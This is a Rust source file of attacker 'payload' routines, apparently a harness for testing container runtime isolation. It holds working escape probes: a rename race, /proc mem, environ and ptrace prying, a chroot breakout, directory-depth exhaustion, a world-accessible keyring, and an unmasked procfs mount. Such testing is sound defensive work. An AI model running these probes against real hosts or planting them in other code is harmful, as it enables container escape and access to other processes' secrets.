//! Payload verbs of an attacker: each does what a container may do, as fast and as much as it can.

use super::{number, say, say_result};
use std::fs::{self, File};
use std::os::fd::AsRawFd;
use std::path::Path;
use std::time::Duration;

use crate::sys;
use crate::sys::attack::{exchange as exchange_names, keyctl, let_go, seize};

/// Whether somebody has written to the standard input, or closed it: the end of an attack.
fn is_called() -> bool {
    sys::readable(&std::io::stdin(), Duration::ZERO).unwrap_or(true)
}

/// Exchanges two names again and again, until it is called.
pub fn exchange(words: &[&str]) {
    let [one, two] = words else { return };
    let (one, two) = (Path::new(one), Path::new(two));
    say_result("exchange", exchange_names(one, two).map(|()| "ok"));
    let mut count = 0;
    while !is_called() {
        for _ in 0..100 {
            count += i32::from(exchange_names(one, two).is_ok());
        }
    }
    say("exchanged", count);
}

fn name_of(pid: i32) -> Option<String> {
    Some(fs::read_to_string(format!("/proc/{pid}/comm")).ok()?.trim().to_string())
}

type Way = (&'static str, fn(i32) -> bool);

/// What gives power over a process, or over what it has of the host. While execve(2) puts the program in its
/// place, the links can be followed already and the name is still the old one; but they lead to the container's.
const WAYS: &[Way] = &[
    ("exe", |pid| fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|path| !path.ends_with("payload"))),
    ("root", |pid| leads_outside(pid, "root")),
    ("cwd", |pid| leads_outside(pid, "cwd")),
    ("fd", has_more_open),
    ("mem", |pid| File::options().read(true).write(true).open(format!("/proc/{pid}/mem")).is_ok()),
    ("environ", |pid| fs::read(format!("/proc/{pid}/environ")).is_ok_and(|text| !text.is_empty())),
    ("ptrace", |pid| seize(pid).is_ok()),
];

fn leads_outside(pid: i32, link: &str) -> bool {
    let opened = File::open(format!("/proc/{pid}/{link}"));
    opened.is_ok_and(|place| !Path::new(&format!("/proc/self/fd/{}/payload", place.as_raw_fd())).exists())
}

/// More than a container's process has: the standard ones, and a socket to the runtime until it is the program.
fn has_more_open(pid: i32) -> bool {
    let names = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
    let others = names.filter(|name| !["0", "1", "2"].iter().any(|number| name.file_name() == *number));
    let mut targets = others.filter_map(|name| fs::read_link(name.path()).ok());
    targets.any(|target| !target.display().to_string().starts_with("socket:"))
}

/// Tries to look into every process that is not a payload, until it is called. Says each way in that was open,
/// and how many looks there were.
pub fn pry(_: &[&str]) {
    say("prying", "1");
    let [own, ..] = sys::family();
    let is_other = |pid: i32| name_of(pid).is_some_and(|name| name != "payload");
    let mut looks = 0;
    while !is_called() {
        let names = fs::read_dir("/proc").into_iter().flatten().flatten();
        let pids: Vec<i32> = names.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect();
        for pid in pids.into_iter().filter(|pid| *pid != own) {
            for (way, open) in WAYS {
                if !is_other(pid) {
                    break;
                }
                looks += 1;
                let opened = open(pid);
                // It may have become its program meanwhile, into which one may look.
                if opened && is_other(pid) {
                    say(&format!("pried:{way}"), name_of(pid).unwrap_or_default());
                }
                if opened && *way == "ptrace" {
                    let_go(pid);
                }
            }
        }
    }
    say("looks", looks);
}

/// Makes directories, each in the one before.
pub fn deep(words: &[&str]) {
    let [top, count] = words else { return };
    if let Err(error) = std::env::set_current_dir(top) {
        return say_result("deep", Err::<&str, _>(error));
    }
    for made in 0..number(count) {
        if let Err(error) = fs::create_dir("deep").and_then(|()| std::env::set_current_dir("deep")) {
            say("made", made);
            return say_result("deep", Err::<&str, _>(error));
        }
    }
    say("deep", "ok");
}

/// Takes away what `deep` has made.
pub fn shallow(words: &[&str]) {
    let top = words.concat();
    let mut depth = 0;
    if std::env::set_current_dir(&top).is_ok() {
        while std::env::set_current_dir("deep").is_ok() {
            depth += 1;
        }
    }
    for _ in 0..depth {
        let removed = std::env::set_current_dir("..").and_then(|()| fs::remove_dir("deep"));
        if let Err(error) = removed {
            return say_result("shallow", Err::<&str, _>(error));
        }
    }
    say("shallow", depth);
}

const GET_KEYRING_ID: u32 = 0;
const JOIN_SESSION_KEYRING: u32 = 1;
const SETPERM: u32 = 5;
const SESSION: i64 = -3;

/// Makes a session keyring of a name, for everybody to find and to use.
pub fn keyring(words: &[&str]) {
    let name = words.concat() + "\0";
    let made = keyctl(JOIN_SESSION_KEYRING, [name.as_ptr() as i64, 0, 0])
        .and_then(|serial| keyctl(SETPERM, [serial, 0x3f3f_3f3f, 0]).map(|_| serial));
    say_result("keyring", made);
}

/// The serial number of the session keyring.
pub fn session(_: &[&str]) {
    say_result("session", keyctl(GET_KEYRING_ID, [SESSION, 0, 0]));
}

/// Climbs out of a root that chroot(2) has made: with its working directory outside of a deeper one.
pub fn climb(_: &[&str]) {
    let climbed = || {
        fs::create_dir_all("/tmp/cell")?;
        std::os::unix::fs::chroot("/tmp/cell")?;
        (0..40).try_for_each(|_| std::env::set_current_dir(".."))?;
        let names =
            fs::read_dir(".")?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
        let mut names: Vec<String> = names.collect();
        names.sort();
        Ok(names.join(" "))
    };
    say_result("climb", climbed());
}

/// A process in namespaces of its own mounts a procfs that nothing is masked in.
pub fn reveal(words: &[&str]) {
    let place = words.first().copied().unwrap_or("");
    let apart = sys::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWPID);
    match apart.and_then(|()| sys::fork()) {
        Ok(0) => {
            let mounted = sys::mount("proc", std::path::Path::new(place), "proc", 0, "");
            say_result("reveal", mounted.map(|()| "ok"));
            sys::exit(0)
        }
        Ok(pid) => drop(sys::wait(pid)),
        Err(error) => say_result("reveal", Err::<&str, _>(error)),
    }
}
